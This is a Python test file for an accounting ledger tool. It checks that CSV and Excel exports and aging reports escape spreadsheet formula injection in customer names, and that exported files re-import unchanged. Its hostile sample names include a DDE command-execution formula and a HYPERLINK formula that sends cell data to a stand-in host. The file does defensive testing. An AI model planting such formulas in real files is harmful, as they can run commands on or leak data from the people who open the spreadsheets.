"""A customer named like a formula: the exports and the aging report hand it to Excel as text, and an
exported file imports back to the same ledger (CSV/Excel injection, issue 10 §2)."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import polars as pl
import typer
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Engine, text, update
from typer.testing import CliRunner

from dunmore.cli import imports, reports
from dunmore.cli.context import AppState
from dunmore.imports import Kind, export_ledger
from dunmore.ledger.models import CUSTOMERS
from dunmore.settings import Settings
from dunmore.store.db import make_engine, transaction, upgrade
from tests.store.test_import_roundtrip import empty_database, import_folder
from tests.store.test_import_service import ledger_state, run

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"查看发票")',
    "+86 21 5555 0000",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "O'Brien Trading",
]
AS_OF = "2026-03-01"


def hostile_ledger(engine: Engine, folder: Path) -> None:
    """One customer per hostile name, each with an open invoice; written the way a user imports."""
    customers = folder / "customers.csv"
    with customers.open("w", encoding="utf-8", newline="") as file:
        rows = [
            [f"C{i}", "''=already quoted" if name == "'=already quoted" else name]
            for i, name in enumerate(HOSTILE, 1)
        ]  # an import file escapes a leading apostrophe as the export does
        csv.writer(file).writerows([["customer_id", "name"], *rows])
    invoices = folder / "invoices.csv"
    invoices.write_text(
        "invoice_id,customer_id,issue_date,due_date,amount,currency\n"
        + "".join(f"INV-{i},C{i},2026-01-01,2026-01-31,100.00,CNY\n" for i in range(1, len(HOSTILE) + 1)),
        encoding="utf-8",
    )  # fmt: skip
    run(engine, Kind.CUSTOMERS, customers)
    run(engine, Kind.INVOICES, invoices)


def dunmore(engine: Engine, *args: str) -> str:
    app = typer.Typer()

    @app.callback()
    def root(ctx: typer.Context) -> None:
        ctx.obj = AppState(Settings(database_url="sqlite://"), _engine=engine)

    imports.register(app)
    reports.register(app)
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def csv_column(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [row[column] for row in csv.DictReader(file)]


def xlsx_cells(path: Path, sheet: str, column: str) -> list[tuple[object, str]]:
    rows = list(load_workbook(path)[sheet].iter_rows())
    position = [cell.value for cell in rows[0]].index(column)
    return [(row[position].value, row[position].data_type) for row in rows[1:]]


def test_the_csv_export_escapes_a_formula_start_and_leaves_amounts_numbers(
    engine: Engine, tmp_path: Path
) -> None:
    hostile_ledger(engine, tmp_path)
    dunmore(engine, "export", str(tmp_path / "out"))
    names = csv_column(tmp_path / "out" / "customers.csv", "name")
    assert names == ["'" + name for name in HOSTILE[:6]] + ["O'Brien Trading"]
    assert set(csv_column(tmp_path / "out" / "invoices.csv", "amount")) == {"100.00"}


def test_the_xlsx_export_writes_every_name_as_text(engine: Engine, tmp_path: Path) -> None:
    hostile_ledger(engine, tmp_path)
    dunmore(engine, "export", str(tmp_path / "out"), "--format", "xlsx")
    assert xlsx_cells(tmp_path / "out" / "customers.xlsx", "customers", "name") == [(n, "s") for n in HOSTILE]


def test_the_aging_csv_escapes_names_and_keeps_amounts_numbers(engine: Engine, tmp_path: Path) -> None:
    hostile_ledger(engine, tmp_path)
    target = tmp_path / "aging.csv"
    dunmore(engine, "aging", "--as-of", AS_OF, "--by", "customer", "--format", "csv", "-o", str(target))
    assert sorted(csv_column(target, "name")) == sorted(["'" + name for name in HOSTILE[:6]] + [HOSTILE[6]])
    assert set(csv_column(target, "total")) == {"100.00"}


def test_the_aging_xlsx_writes_names_as_text_and_amounts_as_numbers(engine: Engine, tmp_path: Path) -> None:
    hostile_ledger(engine, tmp_path)
    target = tmp_path / "aging.xlsx"
    dunmore(engine, "aging", "--as-of", AS_OF, "--by", "customer", "--format", "xlsx", "-o", str(target))
    assert sorted(xlsx_cells(target, "aging", "name")) == sorted((name, "s") for name in HOSTILE)
    assert set(xlsx_cells(target, "aging", "total")) == {(100, "n")}


def test_hostile_names_export_and_import_into_an_empty_database_as_they_were(
    engine: Engine, tmp_path: Path
) -> None:
    hostile_ledger(engine, tmp_path)
    with transaction(engine) as conn:
        original = ledger_state(conn)
        for file_format in ("csv", "xlsx"):
            export_ledger(conn, tmp_path / file_format, file_format=file_format)
    assert sorted(row[1] for row in original["customers"]) == sorted(HOSTILE)
    for file_format in ("csv", "xlsx"):
        with empty_database(engine, tmp_path / file_format) as other:
            import_folder(other, tmp_path / file_format, file_format)
            with other.connect() as conn:
                assert ledger_state(conn) == original, file_format


# Names as an import leaves them: no control characters but tab, CR and LF, nothing to trim at the edges.
NAMES = st.text(
    alphabet=st.sampled_from("=+-@'\t\r\n \"|!,;中") | st.characters(exclude_categories=["Cs", "Cc"]),
    min_size=1,
    max_size=40,
).filter(lambda name: name == name.strip() == pl.Series([name]).str.strip_chars()[0])


def test_any_name_survives_a_csv_export_and_import() -> None:
    with tempfile.TemporaryDirectory() as folder:
        source, target = (make_engine(f"sqlite:///{folder}/{name}.db") for name in ("source", "target"))
        upgrade(source)
        upgrade(target)
        first = Path(folder) / "customers.csv"
        first.write_text("customer_id,name\nC1,x\n", encoding="utf-8")
        run(source, Kind.CUSTOMERS, first)

        @settings(max_examples=60, deadline=None)
        @given(NAMES)
        def survives(name: str) -> None:
            with transaction(source) as conn:
                conn.execute(update(CUSTOMERS).values(name=name))
                export_ledger(conn, Path(folder) / "out")
            run(target, Kind.CUSTOMERS, Path(folder) / "out" / "customers.csv")
            with target.connect() as conn:
                assert conn.execute(text("SELECT name FROM customers")).scalar_one() == name

        survives()
        source.dispose()
        target.dispose()
